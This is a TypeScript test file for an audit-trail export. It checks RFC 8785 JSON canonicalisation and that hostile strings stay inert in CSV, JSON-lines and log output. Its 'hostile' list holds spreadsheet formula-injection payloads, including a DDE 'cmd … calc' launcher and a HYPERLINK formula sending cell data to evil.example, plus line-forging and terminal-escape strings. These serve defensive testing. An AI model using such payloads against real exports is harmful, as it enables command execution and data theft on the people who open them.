import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { canonicalize as secondCanonicalize } from 'json-canonicalize';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createLog } from '../../bot/log.ts';
import { wordsHash } from '../../core/audit/bundle.ts';
import { csvLine } from '../../core/audit/csv.ts';
import { exportTrail, TRAIL_COLUMNS, trailRow } from '../../core/audit/export.ts';
import { canonical, type Json } from '../../core/canonical.ts';
import { exportLines, type Keeper, keepTrails, verifyLines } from '../support/audit.ts';
import { type Core, installShop, openCore, sql } from '../support/core.ts';
import { createTestDatabase, type TestDatabase } from '../support/database.ts';
import { readCsv } from '../support/trail.ts';

let testDatabase: TestDatabase;
let core: Core;
let keeper: Keeper;

beforeAll(async () => {
  testDatabase = await createTestDatabase();
  core = await openCore(testDatabase);
  keeper = keepTrails(core);
});

afterAll(async () => {
  keeper.remove();
  await core.close();
  await testDatabase.drop();
});

describe('51 the one spelling of a value', () => {
  // RFC 8785, section 3.2.2 and 3.2.3, and numbers of appendix B.
  const examples: [Json, string][] = [
    [
      {
        numbers: [Number('333333333.33333329'), 1e30, 4.5, 2e-3, 0.000000000000000000000000001],
        string: '\u20ac$\u000F\u000aA\'\u0042\u0022\u005c\\"/',
        literals: [null, true, false],
      },
      '{"literals":[null,true,false],"numbers":[333333333.3333333,1e+30,4.5,0.002,1e-27],"string":"€$\\u000f\\nA\'B\\"\\\\\\\\\\"/"}',
    ],
    [
      {
        '\u20ac': 'Euro Sign',
        '\r': 'Carriage Return',
        '\ufb33': 'Hebrew Letter Dalet With Dagesh',
        '1': 'One',
        '\ud83d\ude00': 'Emoji: Grinning Face',
        '\u0080': 'Control',
        '\u00f6': 'Latin Small Letter O With Diaeresis',
      },
      '{"\\r":"Carriage Return","1":"One","\u0080":"Control","ö":"Latin Small Letter O With Diaeresis","€":"Euro Sign","😀":"Emoji: Grinning Face","\ufb33":"Hebrew Letter Dalet With Dagesh"}',
    ],
    [
      [-0, 5e-324, 1.7976931348623157e308, 9007199254740992, 1e21, 1e-7],
      '[0,5e-324,1.7976931348623157e+308,9007199254740992,1e+21,1e-7]',
    ],
  ];
  test.each(examples)('is that of the RFC (%#)', (value, spelled) => {
    expect(canonical(value)).toBe(spelled);
  });

  const json = fc.jsonValue({ stringUnit: 'binary', maxDepth: 5 }) as fc.Arbitrary<Json>;

  test('is that of a second implementation, for ten thousand values', () => {
    fc.assert(
      fc.property(json, (value) => canonical(value) === secondCanonicalize(value)),
      { numRuns: 10_000 },
    );
  });

  test('does not depend on how it was put together, and says the same as before', () => {
    fc.assert(
      fc.property(json, (value) => {
        expect(JSON.parse(canonical(value))).toEqual(JSON.parse(JSON.stringify(value)));
        expect(canonical(shuffled(value))).toBe(canonical(value));
        expect(canonical(JSON.parse(canonical(value)) as Json)).toBe(canonical(value));
      }),
      { numRuns: 2_000 },
    );
  });

  test('is what the words of an export are hashed by, sorted or not', () => {
    const salt = '5a'.repeat(32);
    fc.assert(
      fc.property(json, (value) => {
        const expected = createHash('sha256').update(Buffer.from(salt, 'hex')).update(canonical(value)).digest('hex');
        expect(wordsHash(salt, value)).toBe(expected);
        expect(wordsHash(salt, shuffled(value))).toBe(expected);
      }),
      { numRuns: 2_000 },
    );
  });

  class Point {
    x = 1;
  }
  const unspeakable: [string, unknown][] = [
    ...[Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY].map((n): [string, unknown] => [String(n), n]),
    ['a lone high surrogate', 'a\ud83d'],
    ['a lone low surrogate', '\ude00a'],
    ['a BigInt', 1n],
    ['undefined', undefined],
    ['a Date', new Date(0)],
    ['a hole', Array(2)],
    ['a function', () => {}],
    ['a symbol', Symbol('x')],
    ['a Map', new Map([['a', 1]])],
    ['bytes', Buffer.from('a')],
    ['an object with a class', new Point()],
    ['an object that says of itself what it is as JSON', Object.create({ toJSON: () => 'forged' })],
  ];
  test.each(unspeakable)(
    'refuses %s, at the top, deep inside, and in an entry, of which nothing is kept',
    async (_, value) => {
      const forced = value as Json; // what the types forbid
      for (const whole of [forced, [forced], { a: { b: [forced] } }]) expect(() => canonical(whole)).toThrow(TypeError);
      const { customerId } = await installShop(core);
      const append = core.database.withCustomer(customerId, (tx) =>
        core.audit.append(tx, customerId, { kind: 'rules.changed', payload: { deep: [{ value: forced }] } }),
      );
      await expect(append).rejects.toThrow('no canonical form');
      expect(await core.audit.verify(customerId)).toMatchObject({ isIntact: true, entries: 0 });
    },
  );

  test('refuses a name that is no text', () => {
    expect(() => canonical({ 'a\ud83d': 1 })).toThrow(TypeError);
  });
});

/** The same value, its fields the other way round. */
function shuffled(value: Json): Json {
  if (Array.isArray(value)) return value.map(shuffled);
  if (value === null || typeof value !== 'object') return value;
  const fields = Object.entries(value as { readonly [name: string]: Json }).reverse();
  return Object.fromEntries(fields.map(([name, field]) => [name, shuffled(field)]));
}

describe('52 words that want to be more than words', () => {
  const hostile = [
    ...['=', '+', '-', '@', '\t=', '\r=', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'].map(
      (sign) => `${sign}cmd|' /C calc'!A0`,
    ),
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    'a","=1+1","',
    'line one\r\n=1+1,forged,row',
    '\n{"seq":"99","kind":"consent.granted"}',
    'a\u2028b\u2029c\u0085d\u0000e\u001b[31mred',
    '"',
  ];

  test('stay in their cell of the table, where no spreadsheet takes them for a formula', async () => {
    const { customerId } = await installShop(core);
    for (const words of hostile)
      await core.database.withCustomer(customerId, (tx) =>
        core.audit.append(tx, customerId, {
          kind: 'rules.changed',
          payload: { intent: words, error: words, pageUrl: words },
        }),
      );
    const rows: string[] = [];
    const exported = await exportTrail({ ...core, checkpoints: keeper.checkpoints }, customerId);
    for await (const { entry } of exported.entries()) rows.push(csvLine(trailRow(entry, () => '=somebody')));
    const cells = readRows(rows.join(''));
    expect(cells).toHaveLength(hostile.length);
    for (const [at, row] of cells.entries()) {
      expect(row).toHaveLength(TRAIL_COLUMNS.length);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
      expect(row[TRAIL_COLUMNS.indexOf('intent')]?.replace(/^'/, '')).toBe(hostile[at]);
    }
    const one = readCsv(csvLine(TRAIL_COLUMNS) + csvLine(TRAIL_COLUMNS.map(() => '=1,"2"')));
    expect(Object.values(one.rows[0] ?? {})).toEqual(TRAIL_COLUMNS.map(() => `'=1,"2"`));
  });

  test('stay in their line of the export, which verifies', async () => {
    const { customerId } = await installShop(core);
    for (const words of hostile)
      await core.database.withCustomer(customerId, (tx) =>
        core.audit.append(tx, customerId, { kind: 'rules.changed', payload: { [words]: words } }),
      );
    const lines = await exportLines(core, keeper, customerId);
    expect(lines).toHaveLength(1 + hostile.length);
    for (const [at, line] of lines.slice(1).entries()) {
      expect(hasControl(line)).toBe(false);
      expect(JSON.parse(line)).toMatchObject({ seq: String(at + 1), payload: { [hostile[at] ?? '']: hostile[at] } });
    }
    const { code, out } = await verifyLines(lines);
    expect([code, out]).toEqual([0, expect.stringContaining(`${hostile.length} entries`)]);
    const [forged] = await sql(
      testDatabase.adminUrl,
      "SELECT FROM autonomous_operations_audit WHERE customer_id = $1 AND kind = 'consent.granted'",
      [customerId],
    );
    expect(forged).toBeUndefined();
  });

  test('stay in their line of the log', () => {
    const lines: string[] = [];
    const log = createLog({
      isVerbose: true,
      redact: (text) => text,
      sink: { write: (line) => lines.push(line), isTTY: false },
    });
    for (const words of hostile) log.warn({ words, [words]: 1, cause: new Error(words) }, words);
    expect(lines).toHaveLength(hostile.length);
    for (const line of lines) {
      expect(hasControl(line.trimEnd())).toBe(false);
      expect(JSON.parse(line)).not.toHaveProperty('seq');
    }
  });
});

/** Characters that end a line or move a terminal's cursor. */
function hasControl(text: string): boolean {
  return [...text].some((character) => character < ' ');
}

/** RFC 4180, with line ends inside of cells. */
function readRows(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^,"\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
    if (end === '') break;
  }
  return rows.slice(0, -1);
}
